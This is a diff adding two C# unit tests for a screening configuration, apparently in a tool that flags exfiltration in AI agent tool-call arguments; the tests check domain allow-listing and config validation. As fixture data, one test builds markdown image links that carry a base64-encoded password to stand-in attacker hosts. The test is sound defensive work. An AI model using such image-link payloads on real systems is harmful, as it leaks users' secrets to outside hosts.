@@ -110,4 +110,50 @@ public sealed class ScreeningConfigTests
         // Policies that read the counts validate against it (the starter's guardrails read context.findings).
         Assert.True(Parse(string.Empty).IsValid);
     }
+
+    [Fact]
+    public void Allowed_domains_reach_the_scanner_and_allow_their_subdomains()
+    {
+        var config = Parse("""
+            screening:
+              allowed_domains: [Trusted.Example., partner.io]
+            """).GetConfigOrThrow();
+        Assert.Equal(["partner.io", "trusted.example"], config.Screening.AllowedDomains.Order(StringComparer.Ordinal));
+        var data = Convert.ToBase64String(System.Text.Encoding.UTF8.GetBytes("password=hunter2 and more data here"));
+        var screener = new Screener(config.Screening, Path.GetTempPath());
+        string Types(string url) => string.Join(",", screener.ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x]({url}?d={data})" }), null).Select(f => f.Type));
+        Assert.DoesNotContain("EXFILTRATION", Types("https://cdn.trusted.example/p.png"), StringComparison.Ordinal);
+        Assert.DoesNotContain("EXFILTRATION", Types("https://partner.io/p.png"), StringComparison.Ordinal);
+        // Suffix match on whole labels: a look-alike domain is not a subdomain.
+        Assert.Contains("EXFILTRATION", Types("https://eviltrusted.example/p.png"), StringComparison.Ordinal);
+        Assert.Contains("EXFILTRATION", Types("https://trusted.example.attacker.net/p.png"), StringComparison.Ordinal);
+        Assert.Contains("EXFILTRATION", new Screener(Parse(string.Empty).GetConfigOrThrow().Screening, Path.GetTempPath())
+            .ScreenArguments(System.Text.Json.JsonSerializer.SerializeToElement(new { text = $"![x](https://cdn.trusted.example/p.png?d={data})" }), null).Select(f => f.Type));
+    }
+
+    [Fact]
+    public void Bad_allowed_domains_are_reported_at_their_line_and_column()
+    {
+        const string extra = """
+            screening:
+              allowed_domains:
+                - https://trusted.example/
+                - "*.wild.example"
+                - com
+                - a..example
+                - ok.example
+                - {host: x}
+            """;
+        var result = Parse(extra);
+        Assert.False(result.IsValid);
+        void Has(string needle, string text) =>
+            Assert.Contains(result.Diagnostics, d => d.Line == LineOf(extra, needle) && d.Column == 7 && d.Message.Contains(text, StringComparison.Ordinal));
+        Has("https://trusted", "not a bare domain");
+        Has("*.wild", "write 'wild.example'");
+        Has("- com", "whole top-level domain");
+        Has("a..example", "empty label");
+        Has("{host: x}", "must be a domain");
+        Assert.DoesNotContain(result.Diagnostics, d => d.Line == LineOf(extra, "ok.example"));
+        Assert.Contains(Parse("screening:\n  allowed_domains: example.com").Diagnostics, d => d.Message.Contains("must be a list of domains", StringComparison.Ordinal));
+    }
 }
